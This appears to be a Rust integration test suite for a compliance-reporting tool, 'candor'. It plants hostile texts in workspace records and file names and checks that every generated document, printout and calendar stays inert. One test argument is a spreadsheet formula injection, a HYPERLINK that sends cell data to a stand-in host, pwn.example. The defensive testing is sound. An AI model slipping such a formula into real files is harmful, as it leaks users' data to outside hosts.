//! Injection: hostile texts stand in every field of every record, in the settings, and in the names of files and sheets; the
//! program makes everything that it can make of them; and a reader of each format, written by others, finds them inert.

mod plant;
mod readers;

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use readers::{calendar, commands, data, is_marked, leaks, terminal, xml};

/// What was found, with where.
#[derive(Default)]
struct Found(Vec<String>);

impl Found {
    fn add(&mut self, place: &str, leaks: Vec<String>) {
        self.0.extend(leaks.into_iter().map(|leak| format!("{place}: {leak}")));
    }

    /// Nothing may have been found.
    fn check(self) {
        let first: Vec<String> =
            self.0.iter().take(40).map(|leak| leak.chars().take(300).collect()).collect();
        assert!(self.0.is_empty(), "{} leaks, the first:\n{}", self.0.len(), first.join("\n"));
    }
}

struct Planted {
    folder: tempfile::TempDir,
}

impl Planted {
    /// One of three workspaces, which share the payloads among them.
    fn new(third: usize, in_settings: bool) -> Planted {
        let folder = tempfile::tempdir().expect("a folder");
        let texts: Vec<String> = plant::payloads().into_iter().skip(third).step_by(3).collect();
        plant::plant(&folder.path().join("ws"), &texts, in_settings);
        Planted { folder }
    }

    /// Runs the program beside the workspace `ws`; its ends are looked at, and what it prints.
    fn run(&self, arguments: &[&str], codes: &[i32], found: &mut Found) -> String {
        let output = Command::new(env!("CARGO_BIN_EXE_candor"))
            .args(arguments)
            .current_dir(self.folder.path())
            .env_clear()
            .output()
            .expect("the program runs");
        let Output { status, stdout, stderr } = output;
        let (out, err) =
            (String::from_utf8_lossy(&stdout).into_owned(), String::from_utf8_lossy(&stderr).into_owned());
        let name = arguments.join(" ");
        assert!(status.code().is_some_and(|code| codes.contains(&code)), "{name}: {status:?}\n{err}");
        let coloured = arguments.contains(&"always");
        found.add(&format!("{name}, printed"), terminal(&out, coloured));
        found.add(&format!("{name}, told"), terminal(&err, coloured));
        found.add(&format!("{name}, told"), commands(&err));
        out
    }

    /// Every file below a folder, by its path from there.
    fn files(&self, folder: &str) -> Vec<(String, PathBuf)> {
        let top = self.folder.path().join(folder);
        let mut files = Vec::new();
        below(&top, &top, &mut files);
        files
    }

    /// Looks at every file below a folder; gives how many there were.
    fn look(&self, folder: &str, found: &mut Found) -> usize {
        let files = self.files(folder);
        for (name, path) in &files {
            let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '/');
            if !name.chars().all(is_plain) || name.contains("..") {
                found.add(folder, vec![format!("the name {name:?}")]);
            }
            found.add(&format!("{folder}/{name}"), leaks(name, &fs::read(path).expect("a file")));
        }
        files.len()
    }
}

fn below(folder: &Path, top: &Path, files: &mut Vec<(String, PathBuf)>) {
    let mut paths: Vec<PathBuf> =
        fs::read_dir(folder).expect("a folder").map(|entry| entry.expect("an entry").path()).collect();
    paths.sort();
    for path in paths {
        if path.is_dir() {
            below(&path, top, files);
        } else {
            let name = path.strip_prefix(top).expect("it lies below").to_string_lossy().into_owned();
            files.push((name, path));
        }
    }
}

const EVERYTHING: &str = "html,docx,md,json,xlsx,plan,csv,sarif,junit,oscal,dpv";

/// All that is written, of an organisation in the settings and of one in a sheet.
fn documents(third: usize, in_settings: bool) {
    let (planted, mut found) = (Planted::new(third, in_settings), Found::default());
    let before = planted.files(".");
    let audited = planted.run(&["audit", "ws", "--out", "audit", "--formats", EVERYTHING], &[0], &mut found);
    assert!(is_marked(&audited), "the summary holds what the records hold");
    planted.run(&["policy", "ws", "--out", "policy", "--formats", "html,docx,md"], &[0], &mut found);
    planted.run(
        &["letter", "=HYPERLINK(\"http://pwn.example/?x=\"&A1,\"pwn\")", "ws", "--out", "letters"],
        &[0, 2],
        &mut found,
    );
    let made = planted.look("audit", &mut found) + planted.look("policy", &mut found);
    assert!(made > 100, "only {made} files were made");
    // The payloads did come through: else their being inert would show nothing.
    let page = fs::read_to_string(planted.folder.path().join("audit/register.html")).expect("a page");
    assert!(page.matches("pwn").count() > 1_000, "{}", page.matches("pwn").count());
    // Nothing was written elsewhere.
    let outside = |(name, _): &(String, PathBuf)| {
        !["audit/", "policy/", "letters/"].iter().any(|out| name.starts_with(out))
    };
    let after: Vec<String> = planted.files(".").into_iter().filter(outside).map(|(name, _)| name).collect();
    assert_eq!(after, before.into_iter().map(|(name, _)| name).collect::<Vec<_>>());
    found.check();
}

#[test]
fn documents_of_an_organisation_in_the_settings_are_inert() {
    documents(0, true);
    documents(1, true);
}

#[test]
fn documents_of_an_organisation_in_a_sheet_are_inert() {
    documents(2, false);
}

#[test]
fn what_is_printed_is_inert() {
    let (planted, mut found) = (Planted::new(2, true), Found::default());
    for colour in ["never", "always"] {
        planted.run(&["check", "ws", "--color", colour], &[0], &mut found);
        planted.run(
            &["policy", "ws", "--out", "policy", "--formats", "md", "--color", colour],
            &[0],
            &mut found,
        );
        planted.run(&["policy", "ws", "--proof", "--color", colour], &[0, 1], &mut found);
        planted.run(&["due", "ws", "--color", colour], &[0], &mut found);
        planted.run(&["letter", "--color", colour, "", "ws"], &[0, 2], &mut found);
        planted.run(
            &["policy", "lint", "policy/privacy-policy.md", "--against", "ws", "--color", colour],
            &[0],
            &mut found,
        );
    }
    for arguments in [
        &["check", "ws", "--format", "json"][..],
        &["due", "ws", "--format", "json"],
        &["audit", "ws", "--format", "json"],
    ] {
        let printed = planted.run(arguments, &[0], &mut found);
        found.add(&arguments.join(" "), data(&printed));
    }
    let printed = planted.run(&["due", "ws", "--format", "ics"], &[0], &mut found);
    found.add("due", calendar(&printed));
    let printed = planted.run(&["audit", "ws", "--format", "junit"], &[0], &mut found);
    found.add("junit", xml("junit", &printed));
    let printed = planted.run(&["audit", "ws", "--format", "github"], &[0], &mut found);
    assert!(printed.contains("::error ") && is_marked(&printed), "{printed}");
    found.add("github", commands(&printed));
    let printed =
        planted.run(&["policy", "lint", "policy/privacy-policy.md", "--format", "sarif"], &[0], &mut found);
    found.add("lint", data(&printed));
    found.check();
}

#[test]
fn a_layout_is_proposed_that_can_be_read_again() {
    let (planted, mut found) = (Planted::new(0, true), Found::default());
    for name in ["all.xlsx", "named.xlsx", "bytes.csv"] {
        let printed = planted.run(&["layout", &format!("ws/records/{name}")], &[0, 3], &mut found);
        assert!(
            printed.parse::<toml::Table>().is_ok(),
            "{name}: {:?}\n{printed}",
            printed.parse::<toml::Table>()
        );
    }
    found.check();
}

#[test]
fn marked_copies_workbooks_to_fill_in_and_calendars_are_inert() {
    let (planted, mut found) = (Planted::new(1, true), Found::default());
    planted.run(&["check", "ws", "--annotate", "marked"], &[0], &mut found);
    planted.run(&["ask", "ws", "--out", "asked/questions.xlsx"], &[0], &mut found);
    planted.run(&["due", "ws", "--out", "asked/due.ics"], &[0], &mut found);
    assert_eq!(planted.look("asked", &mut found), 2);
    let marked = planted.files("marked");
    assert!(marked.len() > 2, "{marked:?}");
    for (name, path) in marked {
        // A copy keeps the name of the file.
        found.add(&name, leaks(&name, &fs::read(path).expect("a file")));
    }
    found.check();
}

#[test]
fn quarters_comparisons_packets_and_portfolios_are_inert() {
    let (planted, mut found) = (Planted::new(0, false), Found::default());
    let run = |quarter: &str, day: &str, found: &mut Found| {
        planted.run(
            &["run", "ws", "--quarter", quarter, "--as-of", day, "--record", "--formats", EVERYTHING],
            &[0],
            found,
        )
    };
    run("2026-Q3", "2026-09-30", &mut found);
    fs::remove_file(planted.folder.path().join("ws/records/named.xlsx")).expect("a file");
    run("2026-Q4", "2026-11-21", &mut found);
    planted.run(
        &["compare", "2026-Q3", "2026-Q4", "ws", "--out", "compared", "--formats", "all"],
        &[0],
        &mut found,
    );
    for profile in ["internal", "auditor", "customer", "public"] {
        let out = format!("packet-{profile}");
        let mut arguments = vec!["package", "2026-Q4", "ws", "--out", &out];
        if profile != "internal" {
            arguments.extend(["--redact", profile]);
        }
        // A text that is a person's name in one place stands in others: then nothing is written, and it is said why.
        planted.run(&arguments, &[0, 3], &mut found);
    }
    planted.run(&["verify", "ws"], &[0, 4], &mut found);
    planted.run(&["portfolio", ".", "--out", "portfolio", "--formats", "all"], &[0], &mut found);
    assert!(planted.look("ws/reports", &mut found) > 200);
    assert!(planted.look("compared", &mut found) > 3 && planted.look("portfolio", &mut found) > 3);
    found.check();
}
